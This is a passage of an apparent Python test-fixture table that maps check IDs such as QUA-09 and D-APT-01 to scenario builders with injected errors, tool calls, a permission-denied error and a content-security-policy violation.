    "QUA-09": [plain(messages=[hello()[0], says("ui/notifications/initialized", at=4.0), SIZE, SIZE])],
    "QUA-10": [odd(errors=[("later", THROWN)]), odd(errors=[("start", f"Error: {DENIAL}")])],
    "QUA-22": [odd(errors=[("start", THROWN)])],
    "QUA-12": [
        partial(errors=[("later", THROWN)]),
        view(plain=replace(PLAIN_SCENE, errors=[("later", THROWN)]), partial=replace(PARTIAL, errors=[LATE])),
    ],
    "QUA-14": [plain(errors=[("later", THROWN)])],
    "QUA-17": [
        plain(errors=[("later", THROWN)]),
        view(plain=replace(PLAIN_SCENE, errors=[("theme", THROWN)]), ours=replace(OURS, errors=[("result", THROWN)])),
    ],
    "TIP-08": [
        view(ours=replace(OURS, errors=[("result", THROWN)]), partial=replace(PARTIAL, errors=[("partials", THROWN)]))
    ],
    "QUA-11": [
        bare(errors=[("result", "NotAllowedError: Permission denied")]),
        view(plain=replace(PLAIN_SCENE, errors=[("result", THROWN)]), bare=replace(BARE, errors=[("x", THROWN)])),
    ],
    "TIP-07": [
        partial(messages=[*hello(), says("tools/call", name="get_time")]),
        partial(messages=[*hello(), says("tools/call", name="load")], steps={"partials": 3}),
        partial(
            messages=[*hello(), says("tools/call", name="load"), says("tools/call", name="load")], steps={"partials": 3}
        ),
    ],
    "D-APT-01": [GOOD_TOOLS, with_tools(list=LISTED, call_unknown=NO_METHOD, call_known=DONE)],
    "D-APT-02": [GOOD_TOOLS],
    "D-APT-03": [GOOD_TOOLS],
    "D-APT-05": [GOOD_TOOLS],
    "D-APT-08": [GOOD_TOOLS],
    "QUA-01": [plain(violations=[PolicyViolation("script-src", "eval")])],
    "QUA-19": [replace(VIEW, document=script("vegaEmbed(chart, spec, { ast: true })"))],
}
